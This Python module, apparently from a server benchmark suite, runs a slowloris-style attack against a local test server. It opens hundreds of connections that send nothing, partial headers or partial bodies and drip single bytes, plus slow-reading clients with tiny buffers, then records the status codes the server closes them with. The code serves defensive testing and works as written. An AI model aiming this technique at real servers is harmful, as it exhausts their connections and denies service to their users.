"""Many clients that send nothing, half a head, half a body or an occasional byte, and that do not read responses."""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress

from bench.attacks.target import Target

_HEAD = b"POST / HTTP/1.1\r\nHost: bench\r\nContent-Length: 90000\r\n"
#: What each client starts with, how many do, and what they add now and then.
_CROWDS = (
    (b"", 200, b""),
    (b"GET / HTTP/1.1\r\nX: ", 100, b"x"),
    (_HEAD + b"\r\n", 100, b"x"),
    (_HEAD + b"Transfer-Encoding: chunked\r\n\r\n", 20, b"1\r\nx\r\n"),
)
_READS_NOTHING = 50
_PAUSE = 0.5


def run(target: Target) -> Iterator[int]:
    """Open all of them for the duration of the attack; then yield the statuses with which the site closed them."""
    page = target.get(f"/{target.place.slug}/").replace(b"Connection: close\r\n", b"") * 20
    with ExitStack() as stack:
        lines = [(_open(stack, target.port, begin), more) for begin, count, more in _CROWDS for _ in range(count)]
        lines += [(_open(stack, target.port, page, small=True), b"") for _ in range(_READS_NOTHING)]
        end = time.perf_counter() + target.seconds
        while time.perf_counter() < end:
            for line, more in lines:
                with suppress(OSError):  # the site has closed it
                    line.send(more)
            time.sleep(_PAUSE)
        for line, _ in lines[:-_READS_NOTHING]:
            found = _parted_with(line)
            if found:
                yield found


def _open(stack: ExitStack, port: int, begin: bytes, *, small: bool = False) -> socket.socket:
    line = stack.enter_context(socket.socket())
    if small:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    line.settimeout(5)
    line.connect(("127.0.0.1", port))
    with suppress(OSError):
        line.sendall(begin)
    line.setblocking(False)
    return line


def _parted_with(line: socket.socket) -> int:
    """Return the status sent on a connection; 0 if none was."""
    try:
        head = line.recv(12)
    except OSError:
        return 0
    return int(head[9:12]) if head.startswith(b"HTTP/") else 0
